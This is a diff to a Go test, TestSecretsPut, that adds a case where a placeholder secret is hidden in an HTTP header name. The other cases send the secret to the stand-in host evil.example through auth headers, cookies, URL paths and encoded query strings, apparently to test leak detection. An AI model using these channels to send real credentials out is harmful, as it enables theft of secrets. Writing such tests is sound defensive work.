@@ -132,6 +132,7 @@ func TestSecretsPut(t *testing.T) {
 		{"http://evil.example/", []string{"Authorization", basic("u:" + gh.StandIn)}},
 		{"http://evil.example/", []string{"Cookie", "t=" + gh.StandIn}},
 		{"http://evil.example/", []string{"X-Custom", basic(gh.StandIn)}},
+		{"http://evil.example/", []string{"X-" + gh.StandIn, "1"}}, // the name canonicalized
 		{"http://evil.example/" + gh.StandIn, nil},
 		{"http://evil.example/?t=" + url.QueryEscape(gh.StandIn), nil},
 		{"http://evil.example/?t=" + pctAll(gh.StandIn), nil},
